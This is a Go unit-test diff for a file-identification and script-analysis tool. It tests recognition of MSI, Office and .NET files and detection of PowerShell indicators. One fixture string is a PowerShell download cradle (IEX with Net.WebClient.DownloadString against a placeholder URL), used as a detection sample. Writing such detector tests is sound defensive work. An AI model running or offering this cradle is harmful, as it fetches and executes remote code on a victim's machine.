@@ -7,6 +7,7 @@ import (
 	"encoding/binary"
 	"os"
 	"slices"
+	"strings"
 	"testing"
 )
 
@@ -137,4 +138,58 @@ func utf16le(s string) []byte {
 		out = append(out, c, 0)
 	}
 	return out
+}
+
+func TestIdentifyOLEAndDotNet(t *testing.T) {
+	dotnet := buildPE(t, peSpec{entry: 0x1000, sections: []peSec{{name: ".text", chars: 0x60000020, data: make([]byte, 0x200)}}})
+	// Data directory 14 (CLR runtime header) of a PE32 optional header.
+	clr := 0x80 + 24 + 96 + 14*8
+	binary.LittleEndian.PutUint32(dotnet[clr:], 0x1000)
+	binary.LittleEndian.PutUint32(dotnet[clr+4:], 0x48)
+	tests := []struct {
+		name, wantMIME string
+		data           []byte
+		hint           string
+	}{
+		{"msi by root CLSID", "application/x-msi", buildCFB(t, map[string][]byte{"\u4840\u3f3f": make([]byte, 64)}, msiCLSID[:]), "ole:msi"},
+		{"xls by Workbook", "application/vnd.ms-excel", buildCFB(t, map[string][]byte{"Workbook": make([]byte, 600)}, nil), "ole:xls"},
+		{"ppt", "application/vnd.ms-powerpoint", buildCFB(t, map[string][]byte{"PowerPoint Document": make([]byte, 600)}, nil), "ole:ppt"},
+		{"generic ole", "application/x-ole-storage", buildCFB(t, map[string][]byte{"Other": make([]byte, 600)}, nil), ""},
+		{".NET assembly", "application/vnd.microsoft.portable-executable", dotnet, "pe:dotnet"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			id := Identify(tc.data)
+			if id.MIME != tc.wantMIME {
+				t.Fatalf("MIME %q, want %q", id.MIME, tc.wantMIME)
+			}
+			if tc.hint != "" && !slices.Contains(id.Flavors(), tc.hint) {
+				t.Errorf("flavors %v lack %s", id.Flavors(), tc.hint)
+			}
+		})
+	}
+}
+
+func TestScriptIndicatorLines(t *testing.T) {
+	src := "line one\n$x = 1\nIEX (New-Object Net.WebClient).DownloadString('http://a/b')\n"
+	info, findings := analyzeScript([]byte(src), "powershell")
+	if info.Lines != 3 {
+		t.Errorf("lines = %d", info.Lines)
+	}
+	byName := map[string]int32{}
+	for _, ind := range info.Indicators {
+		byName[ind.Name] = ind.Line
+	}
+	if byName["invoke_expression"] != 3 || byName["download_cradle"] != 3 {
+		t.Errorf("indicator lines = %v", byName)
+	}
+	for _, f := range findings {
+		if f.Id == "script.download_cradle" {
+			if f.Offset != int64(strings.Index(src, "Net.WebClient")) || !slices.Contains(f.AttackTechniques, "T1105") {
+				t.Errorf("download cradle finding offset %d attack %v", f.Offset, f.AttackTechniques)
+			}
+			return
+		}
+	}
+	t.Error("no script.download_cradle finding")
 }
